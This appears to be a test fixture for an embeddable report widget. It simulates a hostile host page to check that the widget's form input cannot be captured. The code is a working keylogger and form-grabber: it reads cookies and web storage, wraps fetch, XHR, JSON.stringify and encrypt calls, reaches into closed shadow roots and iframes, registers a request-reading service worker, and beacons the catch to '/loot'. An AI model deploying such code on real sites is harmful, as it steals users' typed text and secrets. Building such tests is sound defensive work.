// The script of a hostile or merely curious site, which runs before the widget's script: every attack keeps its catch.

import type { ReportButton } from '../../../../src/widget/button/report-button.ts';
import type { Choice } from '../../../../src/widget/form/fields/control.ts';

/** The catch of each attack, as text. */
export type Loot = Record<string, string[]>;

declare global {
  interface Window {
    /** Everything caught so far. */
    loot: () => string;
    /** Resolves once the site's service worker, if it can have one, sees every request of the page. */
    workerReady: Promise<string>;
    /** Waits until the worker has reported every request so far. */
    workerSettled: () => Promise<void>;
  }
}

/**
 * The script of the page, as source: it has no access to this module.
 *
 * Passive attacks are collectors that many sites run without harmful intent: they read the page and hear the events
 * that reach it. Active attacks are scripts made to capture typed text.
 */
export function attack(): void {
  const loot: Loot = {};
  // Its own tools, before it spoils those of the page.
  const { stringify } = JSON;
  const { push } = Array.prototype;
  const keep = (name: string, what: unknown): void => {
    const list = (loot[name] ??= []);
    const text = String(what);
    if (list.at(-1) !== text) push.call(list, text);
  };
  const keepAll = (name: string, things: Iterable<unknown>): void => {
    for (const thing of things) keep(name, thing);
  };
  window.loot = () => stringify({ ...loot, sizes: [stringify(window.observed())] });
  addEventListener('pagehide', () => navigator.sendBeacon('/loot', window.loot()));

  type Field = HTMLInputElement | HTMLTextAreaElement | HTMLSelectElement;
  const FIELDS = 'input, textarea, select';
  const valueOf = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value')!.get!;
  const valueOfArea = Object.getOwnPropertyDescriptor(HTMLTextAreaElement.prototype, 'value')!.get!;
  const answerOf = (control?: Element): string | undefined =>
    (control as Partial<Choice> | undefined)?.answer;
  const read = (field: Field): string => {
    if (field instanceof HTMLTextAreaElement) return String(valueOfArea.call(field));
    // It knows the form, and the properties in which a control keeps its answer.
    if (field instanceof HTMLSelectElement) return answerOf(field.selectedOptions[0]) ?? field.value;
    if (/^(radio|checkbox)$/.test(field.type) && !field.checked) return '';
    return answerOf(field) ?? String(valueOf.call(field));
  };
  const MOMENTS = ['keydown', 'keyup', 'input', 'change', 'click', 'focusin', 'focusout', 'submit', 'copy'];
  const onEach = (look: (event: Event) => void, isCapturing = true): void => {
    for (const moment of MOMENTS) document.addEventListener(moment, look, isCapturing);
    addEventListener('pagehide', look, true);
  };

  // Passive: a copy of the page, as analytics and « save as » make it.
  onEach(() => keep('markup', document.documentElement.outerHTML));

  // Passive: a saver of forms, as browsers' extensions and forum software have.
  onEach(() => {
    for (const form of document.forms) keep('fields', stringify([...new FormData(form)]));
    keepAll('fields', [...document.querySelectorAll<Field>(FIELDS)].map(read));
  });

  // Passive: a recorder of what visitors do, which hears events where the page gets them.
  onEach(({ target }) => {
    if (!(target instanceof Element)) return;
    const { value } = target as Element & { value?: unknown };
    keepAll('events', [value, target.textContent, document.activeElement?.outerHTML, getSelection()]);
  }, false);
  new MutationObserver((changes) => {
    for (const { target, addedNodes, oldValue } of changes)
      keepAll('events', [oldValue, target.textContent, ...[...addedNodes].map((node) => node.textContent)]);
  }).observe(document, {
    subtree: true,
    childList: true,
    characterData: true,
    attributes: true,
    attributeOldValue: true,
  });

  // Passive: what stays of a visit.
  onEach(() =>
    keepAll('traces', [
      location.href,
      document.title,
      document.cookie,
      stringify(history.state),
      window.name,
      stringify([{ ...localStorage }, { ...sessionStorage }]),
      ...performance.getEntries().map(({ name }) => name),
    ]),
  );

  // Active: every key that is pressed.
  let keys = '';
  addEventListener(
    'keydown',
    ({ key }) => {
      keys += key.length === 1 ? key : '';
      keep('keys', keys);
    },
    true,
  );

  // Active: into shadow trees, closed ones included.
  const roots = new Set<ShadowRoot>();
  const { attachShadow } = Element.prototype;
  Element.prototype.attachShadow = function (init) {
    const root = attachShadow.call(this, init);
    roots.add(root);
    return root;
  };
  onEach((event) => {
    for (const element of document.querySelectorAll<ReportButton>('*')) {
      const root = element.shadowRoot ?? element.renderRoot;
      if (root) roots.add(root);
    }
    for (const root of roots) keepAll('shadow', [...root.querySelectorAll<Field>(FIELDS)].map(read));
    const [deepest] = event.composedPath();
    if (deepest instanceof Element && deepest.matches(FIELDS)) keep('shadow', read(deepest as Field));
  });

  // Active: the page's own functions, changed so that they tell.
  const tell = <T extends object>(on: T, name: keyof T, say: (args: unknown[]) => unknown): void => {
    const original = on[name] as (...args: unknown[]) => unknown;
    on[name] = function (this: unknown, ...args: unknown[]) {
      keepAll('functions', [say(args)].flat());
      return original.apply(this, args);
    } as T[keyof T];
  };
  const decode = (bytes: unknown): string =>
    bytes instanceof Uint8Array || bytes instanceof ArrayBuffer ? new TextDecoder().decode(bytes) : '';
  tell(JSON, 'stringify', ([value]) => {
    // Values that cannot be written down are none of a report.
    try {
      return stringify(value);
    } catch {
      return '';
    }
  });
  tell(window, 'fetch', ([request, init]) => [
    request instanceof Request ? request.url : request,
    (init as RequestInit | undefined)?.body,
  ]);
  tell(XMLHttpRequest.prototype, 'send', ([body]) => body);
  tell(TextEncoder.prototype, 'encode', ([text]) => text);
  // Only a secure page has it.
  if ('subtle' in crypto) tell(SubtleCrypto.prototype, 'encrypt', ([, , text]) => decode(text));
  tell(MessagePort.prototype, 'postMessage', ([message]) => stringify(message));
  for (const { prototype } of [HTMLInputElement, HTMLTextAreaElement]) {
    const { get, ...others } = Object.getOwnPropertyDescriptor(prototype, 'value')!;
    Object.defineProperty(prototype, 'value', {
      ...others,
      get(this: Field) {
        const value = String(get!.call(this));
        keep('functions', value);
        return value;
      },
    });
  }

  // Active: into the frames of the page, and what they say to it.
  addEventListener('message', ({ data }) => keep('frames', stringify(data)), true);
  const peek = (look: () => unknown): void => {
    try {
      keep('frames', look());
    } catch {
      // Another origin.
    }
  };
  const framesOf = (root: Document | ShadowRoot): HTMLIFrameElement[] => [...root.querySelectorAll('iframe')];
  onEach(() => {
    for (const frame of [document, ...roots].flatMap(framesOf)) {
      peek(() => frame.contentDocument?.documentElement.outerHTML ?? '');
      peek(() => frame.contentWindow!.document.documentElement.outerHTML);
      peek(() => frame.contentWindow!.location.href);
      peek(() => frame.contentWindow!.name);
    }
  });

  // Active: a service worker, which sees every request of the page.
  const startWorker = async (): Promise<string> => {
    if (!navigator.serviceWorker) return 'this engine has none here';
    navigator.serviceWorker.addEventListener('message', ({ data }) => keep('worker', data));
    navigator.serviceWorker.startMessages();
    await navigator.serviceWorker.register('/worker.js');
    await navigator.serviceWorker.ready;
    if (!navigator.serviceWorker.controller)
      await new Promise((resolve) => {
        navigator.serviceWorker.addEventListener('controllerchange', resolve, { once: true });
      });
    return '';
  };
  window.workerReady = startWorker();
  window.workerSettled = async () => {
    if (await window.workerReady) return;
    const told = new Promise<void>((resolve) => {
      navigator.serviceWorker.addEventListener('message', ({ data }) => {
        if (String(data).includes('?settled')) resolve();
      });
    });
    await fetch('/worker.js?settled');
    await told;
  };

  // No way of embedding hides that the form was opened.
  addEventListener('cs-open', () => keep('opened', 'cs-open'), true);
  onEach(() => {
    const { activeElement } = document;
    if (activeElement instanceof HTMLIFrameElement || activeElement?.localName.startsWith('cliquez-'))
      keep('opened', activeElement.localName);
  });
  addEventListener('click', ({ target }) => {
    if (target instanceof Element && target.closest('a')) keep('opened', 'the link was followed');
  });
}

/** The service worker: it tells its pages what they send. */
export const WORKER = `
  addEventListener('install', () => skipWaiting());
  addEventListener('activate', (event) => event.waitUntil(clients.claim()));
  addEventListener('fetch', (event) => {
    const { request } = event;
    const tell = async () => {
      const body = await request.clone().text();
      for (const client of await clients.matchAll()) client.postMessage(request.url + ' ' + body);
    };
    // It answers what is sent itself: Firefox shows a body to no other listener.
    if (request.method === 'POST') event.respondWith(tell().then(() => fetch(request)));
    else event.waitUntil(tell());
  });
`;
